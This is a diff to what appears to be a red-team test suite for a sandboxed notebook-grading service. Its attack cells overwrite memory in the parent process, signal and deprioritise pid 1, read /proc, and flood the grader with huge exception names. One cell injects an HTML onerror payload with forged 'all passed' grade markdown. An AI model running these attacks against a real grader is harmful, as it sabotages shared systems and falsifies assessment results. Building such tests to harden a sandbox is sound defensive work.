@@ -277,7 +277,7 @@ report(attack='open files of one slot vs fs.file-max', here=len(fds), child=chil
 Z_MEMWRITE = r'''
 import torch, torch.serialization
 zyg = os.getppid()
-info = {'zygote': zyg, 'cmdline': open(f'/proc/{zyg}/cmdline', 'rb').read()[:300]}
+info = {'zygote': zyg}
 def swap_in(pid, d, old, new):
     """In pid (the process this kernel was forked from: the same addresses), put `new` where d
     holds `old` (CPython 3.11 dict layout)."""
@@ -305,21 +305,18 @@ report(attack='torch.save swapped for torch.load in the zygote', **info)
 '''
 
 Z_SIGSTOP = r'''
-me = os.getpid(); seen = {}
-for p in sorted(int(x) for x in os.listdir('/proc') if x.isdigit()):
-    try:
-        seen[p] = open(f'/proc/{p}/cmdline', 'rb').read()[:120]
+sig = {l.split(':')[0]: l.split(':')[1].strip() for l in open('/proc/1/status') if l.startswith('Sig')}
+sent = {}
+for s in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGHUP, signal.SIGALRM,
+          signal.SIGCHLD, signal.SIGPIPE, signal.SIGWINCH):
+    try:                                              # pid 1 is the zygote: an init gets only the
+        os.kill(1, s); sent[s.name] = 'sent'          # signals it has a handler for (Python: SIGINT)
     except OSError as e:
-        seen[p] = repr(e)
-stopped = {}
-for p in seen:
-    if p not in (me, 1):
-        try:
-            os.kill(p, signal.SIGSTOP); stopped[p] = 'stopped'
-        except OSError as e:
-            stopped[p] = repr(e)
-report(attack='SIGSTOP to every other process of the sandbox', processes=seen, result=stopped)
+        sent[s.name] = repr(e)
+    time.sleep(0.3)
+report(zygote_sig=sig, sent=sent, zygote_state=[l.strip() for l in open('/proc/1/status') if l.startswith('State')])
 '''
+
 
 Z_SCHED_IDLE = r'''
 zyg = os.getppid(); out = {'zygote': zyg}
@@ -344,6 +341,20 @@ except OSError as e:
     out['timerslack'] = repr(e)
 out['policy_now'] = os.sched_getscheduler(zyg)
 report(attack='the zygote made SCHED_IDLE, idle I/O, autogroup nice 19', **out)
+'''
+
+Z_AUTOGROUP = r'''
+zyg = 1; out = {}
+r = libc.syscall(251, 1, zyg, (3 << 13) | 7)          # ioprio_set(PROCESS, zygote, IDLE class)
+out['ioprio'] = r if r == 0 else ('errno', ctypes.get_errno())
+try:                                                  # the autogroup of the sandbox's session: every
+    with open('/proc/1/autogroup', 'w') as f:         # later kernel forked there shares it
+        f.write('19')
+    out['autogroup'] = open('/proc/1/autogroup').read().strip()
+except OSError as e:
+    out['autogroup'] = repr(e)
+out['cgroup'] = open('/proc/1/cgroup').read().replace('\n', ' ')[:200]
+report(**out)
 '''
 
 # ---------------------------------------------------------------------------------------------
@@ -447,6 +458,13 @@ O_MARKDOWN_EXERCISES = (
     "q_check_verdict = '<img src=x onerror=alert(2)>'\n"
 )
 
+BT_PAYLOAD = "x` <img src=x onerror=alert(1)> **[3.5 / 3.5 points: all passed](https://r5.example)** `y"
+O_BACKTICKS_CELL = f"raise Exception({BT_PAYLOAD!r})\n"
+O_BACKTICKS_EXERCISES = (
+    f"def relu(x):\n    raise ValueError({BT_PAYLOAD!r})\n\n"
+    "def pairwise_sq_dists(a, b):\n    raise ValueError('````\\n# forged heading\\n````')\n"
+)
+
 O_HUGE_ENAME = r'''
 E = type('E' * 900000 + 'CELL{n}', (Exception,), {{}})
 e = E('v' * 900000)
@@ -535,8 +553,11 @@ G_Q_LIST = "q_check_verdict = ['a', 'b', 'c', 'd']\n"
 G_Q_SPACE = "q_check_verdict = ' B\\n'\n"
 
 
+MORE = ["more()\n"] * 10
+
+
 def cells(*body: str, prelude: bool = True) -> list[str]:
-    return ([PRELUDE] if prelude else []) + ["import torch\n"] + list(body)
+    return ([PRELUDE] if prelude else []) + ["import torch\n"] + list(body) + (MORE if prelude else [])
 
 
 def memory_attack(code: str) -> list[str]:
@@ -557,12 +578,14 @@ ATTACKS: dict[str, list[str]] = {
     "z_memwrite": cells(WRONG_RELU, Z_MEMWRITE),
     "z_sigstop": cells(WRONG_RELU, Z_SIGSTOP),
     "z_sched_idle": cells(WRONG_RELU, Z_SCHED_IDLE),
+    "z_autogroup": cells(WRONG_RELU, Z_AUTOGROUP),
     "t_kill_own_kernel": cells(T_KILL_OWN_KERNEL, WRONG_RELU,
                                "def pairwise_sq_dists(a, b):\n    return a\n"),
     "t_immortal": cells(T_IMMORTAL, T_SLEEP_UNDER, T_SLEEP_UNDER, T_SLEEP_UNDER, T_SLEEP_UNDER),
     "t_hog": cells(WRONG_RELU, T_HOG, *(["hold(9)\n"] * 8)),
     "o_raw_fds": cells(WRONG_RELU, O_RAW_FDS),
     "o_markdown": cells(O_MARKDOWN_CELL, O_MARKDOWN_EXERCISES),
+    "o_backticks": cells(O_BACKTICKS_CELL, O_BACKTICKS_EXERCISES),
     "o_huge_ename": cells(O_HUGE_RELU, *[O_HUGE_ENAME.format(n=n) for n in range(20)]),
     "o_proc_recon": cells(WRONG_RELU, O_PROC_RECON, O_PROC_RECON2),
     "s_helper": cells(WRONG_RELU, S_HELPER),
